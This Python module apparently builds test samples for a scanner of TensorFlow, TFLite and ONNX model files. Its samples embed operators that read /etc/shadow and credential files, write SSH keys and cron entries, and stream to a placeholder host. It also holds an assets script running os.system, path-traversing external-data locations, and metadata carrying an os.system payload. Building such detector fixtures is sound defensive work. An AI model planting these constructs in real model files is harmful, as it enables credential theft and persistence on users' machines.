"""Graphs of operators that read, write, fetch or run something: TensorFlow, TFLite and ONNX."""

import json
from collections.abc import Iterator

from .protobuf import constant, field, function, graph, node, saved_model
from .sample import COMMAND, HOST, URL, Sample

__all__ = ["samples"]

PLACE = node("x", "Placeholder", dtype=field(6, 1))
ADD = node("y", "AddV2", "x", "x", T=field(6, 1))
VARIABLES = {"variables/variables.index": b"", "variables/variables.data-00000-of-00001": bytes(16)}


def _with(*nodes: bytes) -> bytes:
    return graph(PLACE, ADD, *nodes)


READS = (constant("n", "/etc/passwd"), node("r", "ReadFile", "n"))
WRITES = (
    constant("n", "/root/.ssh/authorized_keys"),
    constant("c", "ssh-ed25519 AAAA x"),
    node("w", "WriteFile", "n", "c"),
)


def _tensorflow() -> Iterator[tuple[str, dict[str, bytes]]]:
    def model(*nodes: bytes, **functions: tuple[bytes, ...]) -> dict[str, bytes]:
        return {"saved_model.pb": saved_model(graph(PLACE, ADD, *nodes, **functions)), **VARIABLES}

    yield "SavedModel, ReadFile", model(*READS)
    yield "SavedModel, WriteFile", model(*WRITES)
    inside = function("__inference_call_12", *WRITES)
    call = node("call", "StatefulPartitionedCall", "x", f=field(10, field(1, "__inference_call_12")))
    yield "SavedModel, WriteFile in a function", model(call, functions=(inside,))
    loop = node("loop", "While", "x", body=field(10, field(1, "deep_body")))
    yield "SavedModel, ReadFile in a loop's body", model(loop, functions=(function("deep_body", *READS),))
    yield "SavedModel, PyFunc", model(node("p", "PyFunc", "x", token=field(2, "pyfunc_0")))
    yield "SavedModel, EagerPyFunc", model(node("p", "EagerPyFunc", "x", token=field(2, "pyfunc_1")))
    yield "SavedModel, MatchingFiles", model(constant("n", "/home/*/.aws/*"), node("m", "MatchingFiles", "n"))
    yield (
        "SavedModel, debugger that streams",
        model(node("d", "DebugIdentityV2", "x", debug_urls=field(1, field(2, f"grpc://{HOST}:6064")))),
    )
    yield (
        "SavedModel, print into a file",
        model(constant("c", "x"), node("p", "PrintV2", "c", output_stream=field(2, "file:///root/.bashrc"))),
    )
    yield (
        "SavedModel, text lines of a secret",
        model(constant("n", "/proc/self/environ"), node("d", "TextLineDataset", "n")),
    )
    yield (
        "SavedModel, whole reader",
        model(constant("n", "/etc/shadow"), node("w", "WholeFileReaderV2"), node("q", "ReaderReadV2", "w")),
    )
    yield "SavedModel, RpcCall", model(node("c", "RpcClient", "x"), node("d", "RpcCall", "c"))
    yield (
        "SavedModel, SaveV2 to a fixed path",
        model(constant("n", "/etc/cron.d/m"), node("s", "SaveV2", "n", "n", "n", "x")),
    )
    yield "frozen graph, WriteFile", {"frozen_inference_graph.pb": _with(*WRITES)}
    yield "frozen graph, ReadFile, called .bin", {"model.bin": _with(*READS)}
    yield (
        "MetaGraph, PyFunc",
        {
            "model.ckpt.meta": field(1, field(4, "train")) + field(2, _with(node("p", "PyFuncStateless", "x"))),
            "checkpoint": b'model_checkpoint_path: "model.ckpt"\n',
        },
    )
    yield (
        "SavedModel, second graph is bad",
        {"saved_model.pb": saved_model(graph(PLACE, ADD)) + saved_model(_with(*WRITES), "train")[2:], **VARIABLES},
    )
    yield (
        "text GraphDef",
        {"graph.pbtxt": b'node { name: "n" op: "Const" }\nnode { name: "w" op: "WriteFile" input: "n" }\n'},
    )
    yield "assets with a script", {**model(), "assets.extra/load.py": f"import os\nos.system('{COMMAND}')\n".encode()}


def _tflite() -> Iterator[tuple[str, bytes]]:
    try:
        import flatbuffers
    except ImportError:
        return
    for custom in ("FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc"):
        builder = flatbuffers.Builder(256)
        name = builder.CreateString(custom)
        builder.StartObject(4)  # OperatorCode: deprecated_builtin_code, custom_code, version, builtin_code
        builder.PrependInt8Slot(0, 32, 0)
        builder.PrependUOffsetTRelativeSlot(1, name, 0)
        builder.PrependInt32Slot(3, 32, 0)
        code = builder.EndObject()
        builder.StartVector(4, 1, 4)
        builder.PrependUOffsetTRelative(code)
        codes = builder.EndVector()
        about = builder.CreateString("converted")
        builder.StartObject(8)  # Model: version, operator_codes, subgraphs, description
        builder.PrependUint32Slot(0, 3, 0)
        builder.PrependUOffsetTRelativeSlot(1, codes, 0)
        builder.PrependUOffsetTRelativeSlot(3, about, 0)
        builder.Finish(builder.EndObject(), b"TFL3")
        yield f"TFLite, {custom}", bytes(builder.Output())


def _onnx() -> Iterator[tuple[str, dict[str, bytes]]]:
    from onnx import TensorProto, helper

    def outside(location: str, name: str = "w", **more: str) -> TensorProto:
        tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[2], data_location=TensorProto.EXTERNAL)
        for key, value in {"location": location, **more}.items():
            tensor.external_data.add(key=key, value=value)
        return tensor

    info = helper.make_tensor_value_info
    ends = ([info("x", 1, [2])], [info("y", 1, [2])])

    def model(*initial: TensorProto, nodes: object = None, **metadata: str) -> bytes:
        steps = nodes or [helper.make_node("Add", ["x", "x"], ["y"])]
        made = helper.make_model(helper.make_graph(steps, "g", *ends, list(initial)), producer_name="export")
        helper.set_model_props(made, metadata)
        return made.SerializeToString()

    for name, location in (
        ("upwards", "../../../../../../etc/passwd"),
        ("absolute", "/etc/shadow"),
        ("hidden upwards", "data/../../../.ssh/id_rsa"),
        ("a dot and upwards", "./../../secrets.bin"),
        ("of an address", URL + "/w.bin"),
        ("of a share", "\\\\192.0.2.77\\s\\w.bin"),
        ("with backslashes", "..\\..\\windows\\win.ini"),
        ("of a scheme", "file:///etc/passwd"),
        ("of a device", "/proc/self/mem"),
    ):
        yield f"external data {name}", {"model.onnx": model(outside(location))}
    inner = helper.make_graph(
        [helper.make_node("Identity", ["z"], ["y"])], "b", [], [info("y", 1, [2])], [outside("../../key", "z")]
    )
    test = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    yield "external data upwards in a branch", {"model.onnx": model(nodes=[test])}
    value = helper.make_node("Constant", [], ["y"], value=outside("../../../etc/hostname"))
    yield "external data upwards in a constant", {"model.onnx": model(nodes=[value])}
    harmless = outside("weights.bin")
    yield (
        "second tensor goes upwards",
        {"model.onnx": model(harmless, outside("../../.env", "v")), "weights.bin": bytes(8)},
    )
    names = "{0: __import__('os').system('" + COMMAND + "')}"
    yield "metadata that a loader evaluates", {"model.onnx": model(names=names, stride="32", task="detect")}
    yield (
        "a link in place of the external data",
        {"model.onnx": model(harmless), "config.json": json.dumps({}).encode()},
    )


def samples() -> Iterator[Sample]:
    for name, files in _tensorflow():
        yield Sample("tensorflow graphs", name, files)
    for name, data in _tflite():
        yield Sample("tensorflow graphs", name, {"model.tflite": data})
    for name, files in _onnx():
        links = {"weights.bin": "/etc/passwd"} if "a link" in name else None
        yield Sample("onnx files", name, files, links)
